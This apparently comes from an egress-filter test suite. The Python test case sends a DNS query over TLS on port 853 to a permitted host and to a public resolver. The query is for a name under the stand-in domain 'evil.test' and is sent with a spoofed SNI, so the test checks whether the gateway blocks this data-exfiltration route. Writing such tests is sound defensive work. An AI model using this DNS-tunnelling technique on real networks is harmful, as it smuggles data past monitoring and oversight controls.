"""DNS over TLS, to a resolver and on a permitted host's port 853.

DNS over TLS has a port of its own. A filter that reads hellos on 443 and questions on 53 sees
neither here, and the permitted name makes the hello look right.

Not covered: DNS over TLS on port 443 of a permitted host, which is a tunnel to that host.
"""

ATTACK = {
    "title": "DNS over TLS",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 7858 section 3.1", "R048", "R077"],
    "arrives": [{"what": "tcp", "port": 853}],
    "stopped": [{"reason": ["wrong-port"], "entry": ["transparent"]}],
}


def attempt(kit):
    import wire

    message = wire.dns_message(wire.question(f"{kit.word}.x.evil.test"))
    framed = wire.text(len(message).to_bytes(2, "big") + message)
    for place in ("allowed.test", "9.9.9.9"):
        kit.talk(place, 853, framed, sni="allowed.test", patience=0.1)
